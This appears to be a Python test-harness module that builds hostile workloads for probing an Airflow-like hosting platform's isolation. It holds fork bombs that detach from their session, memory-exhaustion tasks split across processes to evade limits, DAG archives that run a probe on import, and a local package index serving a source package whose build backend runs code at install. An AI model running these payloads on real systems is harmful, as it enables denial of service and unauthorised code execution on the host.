"""Code to push that goes against its host: it probes, or it takes all that it can get."""

import hashlib
import http.server
import io
import pathlib
import tarfile
import threading

PROBE = pathlib.Path(__file__).resolve().parent / "probe.py"

_TASK = '''
from airflow.sdk import dag, task


@dag(schedule=None)
def {name}():
    @task
    def act():
        {imports}
        {act}

    act()


{name}()
'''

# Every copy leaves its session, so that no signal to a group finds it.
_FORK_BOMB = """
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                pass
"""

# The same from a program that carries nothing of where it comes from.
_NAMELESS_BOMB = """
        code = '''
import os
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
'''
        if os.fork() == 0:
            os.setsid()
            os.execve("/usr/bin/env", ["env", "-i", sys.executable, "-c", code], {})
        time.sleep(120)
"""

_AT_ONCE = """
        x = bytearray(20 << 30)
"""

# Four GiB, twice what is allowed, but no process has more than half a GiB.
_IN_PIECES = """
        for _ in range(8):
            if os.fork() == 0:
                x = bytearray(512 << 20)
                for i in range(0, len(x), 4096):
                    x[i] = 1
                time.sleep(15)
                os._exit(0)
        for _ in range(8):
            os.wait()
        raise RuntimeError("nobody minded")
"""

_SHARED = """
        x = mmap.mmap(-1, 20 << 30)
"""


def task(name: str, act: str, imports: str = "import mmap, os, sys, time") -> str:
    return _TASK.format(name=name, imports=imports, act=act.strip("\n").lstrip())


def hogs() -> dict[str, str]:
    """DAGs that take all memory or all processes, by name."""
    return {
        "fork_bomb": task("fork_bomb", _FORK_BOMB),
        "nameless_bomb": task("nameless_bomb", _NAMELESS_BOMB),
        "at_once": task("at_once", _AT_ONCE),
        "shared": task("shared", _SHARED),
        "in_pieces": task("in_pieces", _IN_PIECES),
    }


def probing_task(targets: pathlib.Path, report: pathlib.Path) -> dict[str, str]:
    """An archive whose DAG probes when it runs."""
    act = f"probe.main({str(targets)!r}, {str(report)!r})"
    return {
        "dags/probing.py": task("probing", act, "from include import probe"),
        "include/__init__.py": "",
        "include/probe.py": PROBE.read_text(),
    }


def probing_import(targets: pathlib.Path, report: pathlib.Path) -> dict[str, str]:
    """An archive that probes while it is validated, and then fails so that nothing of it is kept."""
    act = f"from include import probe\nprobe.main({str(targets)!r}, {str(report)!r})\nraise SystemExit('airflow dag')\n"
    return {"dags/probing.py": act, "include/__init__.py": "", "include/probe.py": PROBE.read_text()}


_BACKEND = '''
import probe

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    probe.main({targets!r}, {report!r})
    raise SystemExit("that is all")

build_wheel = get_requires_for_build_sdist = prepare_metadata_for_build_wheel
'''


class HostileIndex:
    """A package index with one package, which has no wheel and probes while it is built."""

    NAME = "hostile_source-1.0.tar.gz"

    def __init__(self, targets: pathlib.Path, report: pathlib.Path):
        sdist = self.sdist(targets, report)
        page = f'<a href="/files/{self.NAME}#sha256={hashlib.sha256(sdist).hexdigest()}">{self.NAME}</a>'.encode()
        answers = {"/simple/hostile-source/": ("text/html", page), f"/files/{self.NAME}": ("application/gzip", sdist)}

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                kind, body = answers.get(self.path, ("text/plain", b""))
                self.send_response(200 if self.path in answers else 404)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @staticmethod
    def sdist(targets: pathlib.Path, report: pathlib.Path) -> bytes:
        files = {
            "PKG-INFO": "Metadata-Version: 2.1\nName: hostile-source\nVersion: 1.0\n",
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "backend.py": _BACKEND.format(targets=str(targets), report=str(report)),
            "probe.py": PROBE.read_text(),
        }
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w:gz") as tar:
            for name, text in files.items():
                entry = tarfile.TarInfo(f"hostile_source-1.0/{name}")
                entry.size = len(text.encode())
                tar.addfile(entry, io.BytesIO(text.encode()))
        return out.getvalue()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}/simple/"
